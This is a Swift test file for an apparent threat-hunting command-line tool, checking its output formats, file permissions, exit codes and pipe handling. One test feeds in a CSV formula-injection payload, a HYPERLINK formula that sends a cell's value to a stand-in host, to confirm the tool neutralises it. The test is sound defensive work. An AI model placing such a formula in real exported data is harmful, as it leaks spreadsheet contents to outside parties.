// What results look like: formats, files, exit codes, pipes.

import Foundation
import Hunting
import TestSupport
import Testing

@Suite struct OutputTests {
  private let query = """
    ThreatIntelligenceIndicator | where isnotempty(NetworkIP) and SourceSystem == "SOC Defenders" \
    | sort by NetworkIP asc | take 3 \
    | project NetworkIP, ConfidenceScore, Active, ExpirationDateTime, NetworkPort, Description
    """

  @Test func `JSON is an array of objects with typed values`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let result = try await workplace.picket("query", query, "--format", "json")
    let rows = try #require(
      try JSONSerialization.jsonObject(with: Data(result.output.utf8)) as? [[String: Any]])
    #expect(rows.count == 3)
    #expect(rows[0]["NetworkIP"] as? String == "192.0.2.10")
    #expect(rows[0]["ConfidenceScore"] as? Double == 85)
    #expect(rows[0]["Active"] as? Bool == true)
    #expect(rows[0]["NetworkPort"] is NSNull)
  }

  @Test func `all hunts as JSON are one document with a member for each`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let result = try await workplace.picket(
      "hunt", "--format", "json", "--now", clock)
    let document = try #require(
      try JSONSerialization.jsonObject(with: Data(result.output.utf8)) as? [String: [Any]])
    #expect(document.keys.sorted() == Hunt.standard.map(\.name).sorted())
    for name in ["dns-domain", "network-ip", "network-direction"] {
      #expect(document[name]?.isEmpty == false)
    }
  }

  @Test func `hunts with hits have a table each in CSV, with an empty line between`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let result = try await workplace.picket("hunt", "--now", clock)
    let tables = result.output.components(separatedBy: "\r\n\r\n")
    let counts = result.errors.split(separator: "\n").filter { $0.hasSuffix(" rows") }
    #expect(counts.count == Hunt.standard.count)
    #expect(tables.count == counts.filter { $0 != "0 rows" }.count)
    #expect(tables.count >= 3)
    for table in tables { #expect(table.hasPrefix("TimeGenerated,")) }
  }

  @Test func `NDJSON is one object a line`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let result = try await workplace.picket("query", query, "--format", "ndjson")
    let lines = result.output.split(separator: "\n")
    #expect(lines.count == 3)
    for line in lines {
      let row = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
      #expect(row?.count == 6)
    }
  }

  @Test func `CSV has a header and CRLF line ends`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let result = try await workplace.picket("query", query)
    #expect(result.output.components(separatedBy: "\r\n").count == 5)
    let records = readCSV(result.output)
    #expect(records.map(\.count) == [6, 6, 6, 6])
    #expect(records[1].prefix(3) == ["192.0.2.10", "85", "true"])
  }

  @Test func `table and Markdown have a line for each row`() async throws {
    let workplace = try await SampleWarehouse.copy()
    for format in ["table", "markdown"] {
      let result = try await workplace.picket("query", query, "--format", format)
      let lines = result.output.split(separator: "\n")
      #expect(lines.count { $0.contains("192.0.2.") } == 3)
      #expect(lines.first?.contains("NetworkIP") == true)
    }
    let markdown = try await workplace.picket("query", query, "--format", "markdown").output
    #expect(markdown.split(separator: "\n").allSatisfy { $0.hasPrefix("|") && $0.hasSuffix("|") })
  }

  @Test func `a file gets the result alone, with mode 0600`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let printed = try await workplace.picket("hunt", "network-ip")
    let written = try await workplace.picket("hunt", "network-ip", "--output", "hits.csv")
    #expect(written.status == 0)
    #expect(written.output == "")
    #expect(try workplace.text(of: "hits.csv") == printed.output)
    #expect(try workplace.mode(of: "hits.csv") == 0o600)
    let sql = try await workplace.picket("hunt", "network-ip", "--sql", "-o", "hits.sql")
    #expect(sql.output == "")
    #expect(try workplace.text(of: "hits.sql").hasPrefix("SELECT "))
  }

  @Test func `a folder is no output file`() async throws {
    let workplace = try await SampleWarehouse.copy()
    try workplace.makeFolder("folder")
    for path in ["folder", "no/such/folder/hits.csv"] {
      let result = try await workplace.picket("hunt", "network-ip", "--output", path)
      expectOneLine(result, "cannot write \(path)")
    }
  }

  @Test func `a description that is a formula is defused unless --csv-raw`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let formula = "=HYPERLINK(\\\"http://x.test/?\\\"&A1)"
    let object = ScriptedFeed.indicator(1, address: "192.0.2.10", description: formula)
    try workplace.directory.write(
      "{\"type\":\"bundle\",\"objects\":[\(object)]}", to: "hostile.json")
    #expect(try await workplace.picket("ingest", "file", "hostile.json").status == 0)
    let guarded = try await workplace.picket("hunt", "network-ip")
    let descriptions = Set(readCSV(guarded.output).map { $0[4] })
    #expect(descriptions.contains("'=HYPERLINK(\"http://x.test/?\"&A1)"))
    #expect(!descriptions.contains { $0.hasPrefix("=") })
    let raw = try await workplace.picket("hunt", "network-ip", "--csv-raw")
    #expect(readCSV(raw.output).contains { $0[4] == "=HYPERLINK(\"http://x.test/?\"&A1)" })
  }

  @Test func `--fail-on-hit exits 3 with rows and 0 without`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let hits = try await workplace.picket("hunt", "network-ip", "--fail-on-hit")
    #expect(hits.status == 3)
    #expect(readCSV(hits.output).count > 10)
    #expect(hits.errors == "")
    try workplace.directory.write("DnsEvents | where Name == 'none.test'", to: "none.kql")
    let none = try await workplace.picket("hunt", "none.kql", "--fail-on-hit")
    #expect(none.status == 0)
  }

  @Test func `no hits are a header and exit 0`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let late = try await workplace.run(
      "picket", ["hunt", "network-ip", "--now", "2036-01-01T00:00:00Z"])
    #expect(late.status == 0)
    #expect(late.output == "TimeGenerated,SourceIP,DestinationIP,ConfidenceScore,Description\r\n")
    #expect(late.errors == "")
  }

  @Test func `tables that never received a row are noted`() async throws {
    let workplace = try Workplace()
    try workplace.directory.write("192.0.2.1\n", to: "list.txt")
    #expect(try await workplace.picket("ingest", "file", "list.txt").status == 0)
    let result = try await workplace.picket("hunt", "network-ip")
    #expect(result.status == 0)
    #expect(readCSV(result.output).count == 1)
    #expect(
      result.errors
        == "note: NetworkConnection has never received a row, so network-ip finds nothing in it\n")
    let all = try await workplace.picket("hunt")
    #expect(all.errors.split(separator: "\n").filter { $0.hasPrefix("note:") }.count == 3)
    #expect(
      all.errors.contains(
        "note: NetworkConnection has never received a row, so 6 of the hunts find nothing in it\n"))
  }

  @Test func `a reader that goes away is no error`() async throws {
    let workplace = try await SampleWarehouse.copy()
    let script = """
      { "$PICKET" query 'range x from 1 to 1000000 step 1'; echo "exit $?" >&2; } | head -1
      """
    let result = try await workplace.run(
      "/bin/sh", ["-c", script],
      environment: ["PICKET": Program.folder.appending(path: "picket").path])
    #expect(result.output == "x\r\n")
    #expect(result.errors == "exit 0\n")
  }

  @Test func `a query comes from standard input, and --now is its clock`() async throws {
    let workplace = try Workplace()
    let result = try await workplace.picket(
      ["query", "-"], input: "print Time = now(), Sum = 1 + 1")
    #expect(result.status == 0)
    #expect(result.output == "Time,Sum\r\n2026-11-23T10:00:00.0000000Z,2\r\n")
  }

  @Test func `a query that reads no table needs no database and makes none`() async throws {
    let workplace = try Workplace()
    let result = try await workplace.picket("query", "print 1")
    #expect(result.status == 0)
    #expect(readCSV(result.output) == [["print_0"], ["1"]])
    #expect(!workplace.exists("picket.db"))
    // Nor does it look at one that it could not read.
    try workplace.directory.write("hello\n", to: "picket.db")
    #expect(try await workplace.picket("query", "print 1").status == 0)
  }

  @Test func `the list names every hunt with its kind`() async throws {
    let result = try await Workplace().picket("hunt", "--list")
    #expect(result.status == 0)
    let records = readCSV(result.output)
    #expect(records[0] == ["Name", "MatchKind", "Valid", "RunsInSentinel", "Summary"])
    #expect(records.dropFirst().map { $0[0] } == Hunt.all.map(\.name))
    #expect(records.contains { $0.prefix(4) == ["dns-subdomain", "subdomain", "now", "false"] })
    #expect(records.contains { $0.prefix(4) == ["dns-domain", "equal", "now", "true"] })
  }

  @Test func `several hunts are printed one after the other, each named on standard error`()
    async throws
  {
    let workplace = try await SampleWarehouse.copy()
    let both = try await workplace.picket("hunt", "network-ip", "dns-domain")
    let network = try await workplace.picket("hunt", "network-ip")
    let dns = try await workplace.picket("hunt", "dns-domain")
    #expect(both.output == network.output + "\r\n" + dns.output)
    let counts = [network, dns].map { readCSV($0.output).count - 1 }
    #expect(
      both.errors
        == "== network-ip\n\(counts[0]) rows\n== dns-domain\n\(counts[1]) rows\n")
  }
}
